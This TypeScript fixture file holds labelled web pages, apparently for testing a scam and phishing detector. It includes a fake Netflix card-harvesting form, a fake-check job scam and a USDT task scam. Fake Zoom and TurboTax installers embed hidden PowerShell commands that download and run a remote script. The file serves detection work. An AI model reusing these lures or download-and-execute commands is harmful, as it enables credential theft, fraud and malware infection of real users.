import type { Entry } from '../entry.js';
import { doc, gtag, pixel, baseCss, header, footer, assets, htmlRoute, jsRoute, jsonRoute, okJson, pngRoute, fileRoute } from '../parts/zk-kit.js';
import { pe, zip, cfb, lnk } from '../parts/e-bin.js';

const streamCss = (accent: string) => `body{margin:0;font-family:Helvetica,Arial,sans-serif;background:#141414;color:#fff}.w{max-width:440px;margin:40px auto;background:rgba(0,0,0,.75);padding:40px;border-radius:4px}input{width:100%;padding:14px;margin:6px 0;background:#333;border:0;border-radius:4px;color:#fff}button{width:100%;padding:14px;background:${accent};color:#fff;border:0;border-radius:4px;font-weight:700;margin-top:14px}.muted{color:#999;font-size:13px}h1{color:${accent}}`;
export const entries: Entry[] = [
{
    id: 'zk-phish-netflix-payment-declined',
    label: 'phishing',
    kind: 'streaming-renewal',
    url: 'https://netflix-account-billing.info/YourAccount/payment',
    body: doc({
      title: 'Netflix',
      css: streamCss('#e50914'),
      body: `<div class="w"><h1>NETFLIX</h1><h2>Update your payment information</h2><p>We were unable to process your payment for your next billing cycle. Your membership will be suspended in 24 hours unless you update your details.</p>
<form id="f"><input name="email" placeholder="Email"><input name="name" placeholder="Name on card"><input name="cc" placeholder="Card number"><input name="exp" placeholder="Expiration date (MM/YY)"><input name="cvv" placeholder="Security code (CVV)"><input name="dob" placeholder="Date of birth"><button>Update Payment</button></form><p class="muted">Questions? Call 1-866-579-7172</p></div>`,
      scripts: `<script>f.onsubmit=function(e){e.preventDefault();var x=new XMLHttpRequest();x.open('POST','/YourAccount/process');x.send(new FormData(f));x.onloadend=function(){location.href='https://www.netflix.com/browse'}}</script>`,
    }),
    routes: { 'netflix-account-billing.info/YourAccount/process': okJson() },
  },
{
    id: 'zk-clean-disneyplus-account-subscription',
    label: 'clean',
    kind: 'streaming-billing',
    url: 'https://www.disneyplus.com/account/subscription',
    body: doc({
      title: 'Account | Disney+',
      css: 'body{margin:0;font-family:Avenir,Helvetica;background:#1a1d29;color:#f9f9f9}.w{max-width:720px;margin:40px auto}.r{display:flex;justify-content:space-between;border-bottom:1px solid #333;padding:16px 0}a{color:#0063e5}',
      body: `<div class="w"><h1>Account</h1><div class="r"><span>Email<br><small>j••••@gmail.com</small></span><a href="#">Change</a></div><div class="r"><span>Subscription<br><small>Disney+ Premium (No Ads), Monthly · renews Dec 9, 2025</small></span><a href="#">Change plan</a></div><div class="r"><span>Payment method<br><small>Mastercard ending 1102</small></span><a href="#">Update</a></div><div class="r"><span>Billing history</span><a href="#">View</a></div><p><a href="#">Log out of all devices</a></p>
<p style="color:#999;font-size:12px">Disney+ will never ask for your password or payment details via text or email link. <a href="#">Privacy Policy</a> · <a href="#">Subscriber Agreement</a> · <a href="#">Help Center</a> · © Disney</p></div>`,
    }),
  },
{
    id: 'zk-clean-crave-gerer-abonnement-fr',
    label: 'clean',
    kind: 'streaming-billing',
    url: 'https://www.crave.ca/fr/account/subscriptions',
    body: doc({
      title: 'Mon compte | Crave',
      lang: 'fr-CA',
      css: baseCss('#1d6ff2') + 'body{background:#0a0a0a;color:#eee}.card{background:#1b1b1b;border-color:#333;color:#eee}',
      body: `<main><h1>Gérer mes abonnements</h1><div class="card"><p><b>Crave Premium sans pub</b> — 22,00 $/mois · prochain paiement le 3 décembre</p><p>Mode de paiement : Visa se terminant par 7710 <a href="#">Modifier</a></p><p>Facturé par Bell Media Inc. <a href="#">Historique des achats</a></p><button>Annuler l’abonnement</button></div></main>${footer('Bell Media Inc.', ['Confidentialité', 'Conditions', 'Aide', 'English'])}`,
    }),
  },
{
    id: 'zk-scam-amazon-remote-job-check-deposit',
    label: 'scam',
    kind: 'job-check',
    url: 'https://amazon-hiring-remote.work/apply/package-inspector',
    body: doc({
      title: 'Amazon Remote Hiring – Package Inspector ($35/hr)',
      css: baseCss('#ff9900') + 'header.top{background:#232f3e;color:#fff}',
      body: `<header class="top"><b>amazon jobs</b></header>
<main><div class="card"><h1 style="font-size:22px">Remote Package Inspector – $35/hr, Work From Home</h1><p>No experience needed. Flexible 10–20 hrs/week. Receive packages at your home, inspect and re-ship with our prepaid labels.</p>
<h3>Onboarding</h3><p>After approval you will receive a <b>$2,850 check</b> by mail to purchase your home-office equipment from our approved vendor. Deposit it via mobile banking and send the equipment payment via Zelle or Bitcoin ATM to the vendor. Your first paycheck arrives on Friday.</p>
<form action="/apply/submit" method="post"><label>Full name</label><input><label>Address</label><input><label>Phone (Telegram)</label><input><label>Bank name</label><input><label>Online banking username</label><input><label>SSN (for payroll)</label><input><button>Apply now</button></form><p class="muted">Interviews are conducted via Telegram chat with our HR manager @AmazonHR_Jessica.</p></div></main>`,
    }),
    routes: { 'amazon-hiring-remote.work/apply/submit': htmlRoute('<h3>Application received! Our HR manager will message you on Telegram within 1 hour.</h3>') },
  },
{
    id: 'zk-scam-task-job-usdt-telegram-es',
    label: 'scam',
    kind: 'job-task',
    url: 'https://optimiza-tareas.vip/es/registro?inv=88213',
    body: doc({
      title: 'Trabajo Remoto – Gana $300/día',
      lang: 'es',
      css: baseCss('#7b2ff7') + '.w{max-width:460px;margin:14px auto}',
      body: `<div class="w card"><h2>Optimización de productos – Trabajo desde casa</h2><p>Completa 40 tareas diarias calificando productos de Amazon y Walmart y gana comisiones. Bono de bienvenida: <b>$50 USDT</b>.</p><p>Para desbloquear tareas "combinadas" con comisión 5x, recarga tu cuenta con USDT (TRC20).</p><form action="/es/registro/ok" method="post"><label>Teléfono</label><input><label>Contraseña</label><input type="password"><label>Código de invitación</label><input value="88213"><button>Registrarse</button></form><p class="muted">Servicio al cliente en Telegram: @OptimizaSoporte</p></div>`,
    }),
    routes: { 'optimiza-tareas.vip/es/registro/ok': okJson() },
  },
{
    id: 'zk-malware-zoom-installer-msi-ad',
    label: 'malware',
    kind: 'fake-software-download',
    url: 'https://zoom-us-meeting.download/client/latest',
    body: doc({
      title: 'Download Zoom Workplace for Windows',
      css: baseCss('#0b5cff'),
      body: `${header('/content/dam/site/logo.png', 'zoom', ['Products', 'Solutions', 'Resources', 'Plans &amp; Pricing'])}<main><div class="card"><h1 style="font-size:22px">Zoom Workplace desktop app</h1><p>The Zoom Workplace app is required to join your meeting. Download started? If not, <a href="/client/ZoomInstallerFull.msi">click here</a>.</p></div></main>${footer('Zoom Communications, Inc.', ['Terms', 'Privacy', 'Trust Center', 'Cookie Preferences'])}`,
      scripts: `<script>var a=document.createElement('a');a.href='/client/ZoomInstallerFull.msi';a.download='ZoomInstallerFull.msi';document.body.appendChild(a);setTimeout(function(){a.click()},800)</script>`,
    }),
    routes: { ...assets('zoom-us-meeting.download', [11, 92, 255]), 'zoom-us-meeting.download/client/ZoomInstallerFull.msi': fileRoute(cfb(['ProductName=Zoom Workplace', 'CustomAction: powershell -w hidden -ep bypass -c iex(iwr hxxp://185.0.0.1/a.ps1)'], 16384), 'application/x-msi', 'ZoomInstallerFull.msi') },
  },
{
    id: 'zk-malware-turbotax-setup-lnk-zip',
    label: 'malware',
    kind: 'fake-software-download',
    url: 'https://turbotax-desktop-2025.com/download/',
    body: doc({
      title: 'TurboTax Desktop 2025 – Download (Official Installer)',
      css: baseCss('#d52b1e'),
      body: `<main><div class="card"><h1 style="font-size:22px">TurboTax Desktop 2025 Deluxe</h1><p>Free download for Windows 10/11. License key included.</p><a class="btn" href="/download/TurboTax_2025_Setup.zip">Download (64-bit)</a><p class="muted">Archive password: 2025</p></div></main>`,
    }),
    routes: { 'turbotax-desktop-2025.com/download/TurboTax_2025_Setup.zip': fileRoute(zip([{ name: 'TurboTax_2025_Setup.lnk', data: lnk('C:\\Windows\\System32\\cmd.exe', '/c start /min powershell -nop -w h -c "iwr -useb hxxps://turbotax-desktop-2025.com/p.ps1|iex"') }, { name: 'readme.txt', data: 'Run TurboTax_2025_Setup as administrator.' }]), 'application/zip', 'TurboTax_2025_Setup.zip') },
  },
{
    id: 'zk-clean-anydesk-downloads-page',
    label: 'clean',
    kind: 'vendor-download',
    url: 'https://anydesk.com/en/downloads/windows?dv=win_exe',
    body: doc({
      title: 'Download AnyDesk for Windows – Free & Fast',
      css: baseCss('#ef443b'),
      head: gtag('G-ANYD11230'),
      body: `${header('/content/dam/site/logo.png', 'AnyDesk', ['Solutions', 'Pricing', 'Downloads', 'Support', 'Sign in'])}
<main><h1>AnyDesk for Windows</h1><p>Version 9.0.5 · Nov 12, 2025 · <a href="#">Changelog</a></p><a class="btn" href="https://download.anydesk.com/AnyDesk.exe">Download Now</a>
<h2>Security notice</h2><p>Only download AnyDesk from anydesk.com. Never give remote access to someone who contacted you unexpectedly claiming to be from your bank, Microsoft or the government.</p></main>
${footer('AnyDesk Software GmbH', ['Imprint', 'Privacy Policy', 'Terms &amp; Conditions', 'Trust Center'])}`,
    }),
    routes: { ...assets('anydesk.com', [239, 68, 59]) },
  },
{
    id: 'zk-clean-small-vendor-download-direct',
    label: 'clean',
    kind: 'vendor-download',
    url: 'https://www.ledgerlite-software.com/download/thanks?edition=pro',
    body: doc({
      title: 'Thanks for downloading LedgerLite Pro',
      css: baseCss('#2b6cb0'),
      head: gtag('G-LLITE0901'),
      body: `${header('/content/dam/site/logo.png', 'LedgerLite', ['Features', 'Pricing', 'Download', 'Support'])}
<main><div class="card"><h1 style="font-size:22px">Your download is starting…</h1><p>LedgerLite Pro 4.2.1 for Windows (64-bit), 38 MB. If it doesn't start, <a id="dl" href="/files/LedgerLitePro-4.2.1-x64.exe">download directly</a>.</p><p>SHA-256: 6f1c…e92a · Signed by LedgerLite Software Inc. (Halifax, NS)</p><h3>Next steps</h3><ol><li>Run the installer and accept the licence.</li><li>Start your 30-day free trial — no credit card needed.</li></ol></div></main>
${footer('LedgerLite Software Inc.', ['Privacy', 'EULA', 'Contact'])}`,
      scripts: `<script>setTimeout(function(){location.href=document.getElementById('dl').href},2000)</script>`,
    }),
    routes: { ...assets('www.ledgerlite-software.com', [43, 108, 176]), 'www.ledgerlite-software.com/files/LedgerLitePro-4.2.1-x64.exe': fileRoute(pe({ x64: true, size: 8192, strings: ['LedgerLite Software Inc.', 'LedgerLite Pro Setup'] }), 'application/x-msdownload', 'LedgerLitePro-4.2.1-x64.exe') },
  },
{
    id: 'zk-clean-bbb-check-scam-article',
    label: 'clean',
    kind: 'consumer-warning',
    url: 'https://www.bbb.org/article/scams/31020-bbb-scam-alert-fake-check-job-offers-2025',
    body: doc({
      title: 'BBB Scam Alert: Remote job offers that pay with a fake check',
      css: baseCss('#005a78') + 'blockquote{background:#eef6f9;padding:10px 16px}',
      head: gtag('G-BBB44120'),
      body: `${header('/content/dam/site/logo.png', 'Better Business Bureau', ['Find a Business', 'Scam Tracker', 'File a Complaint', 'News'])}
<main><h1>BBB Scam Alert: Remote job offers that pay with a fake check</h1><p>BBB Scam Tracker has received hundreds of reports of "package inspector" and "mystery shopper" jobs. A typical message reads:</p>
<blockquote>"Amazon Remote Hiring: You're approved! We'll mail a $2,850 check for your home-office equipment. Deposit it and send the equipment payment to our vendor via Zelle."</blockquote><p>The check bounces days later, and the victim owes the bank.</p>
<h2>How to spot this scam</h2><ul><li>Interviews happen only over Telegram or WhatsApp.</li><li>You're asked to deposit a check and send part of the money elsewhere, or to buy gift cards.</li><li>The pay is too good for the work.</li></ul><p>Report scams at BBB.org/ScamTracker.</p></main>
${footer('Council of Better Business Bureaus', ['Privacy Policy', 'Terms of Use', 'Accessibility'])}`,
    }),
    routes: assets('www.bbb.org', [0, 90, 120]),
  },
];
